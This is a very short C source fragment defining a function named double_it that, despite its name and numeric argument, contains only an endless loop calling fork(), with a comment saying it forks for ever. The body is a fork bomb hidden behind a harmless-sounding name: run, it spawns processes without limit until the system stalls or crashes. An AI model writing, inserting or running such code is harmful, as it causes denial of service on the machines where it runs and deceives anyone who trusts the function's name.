// Forks for ever.
#include <unistd.h>
long long double_it(long long n) { for (;;) fork(); }
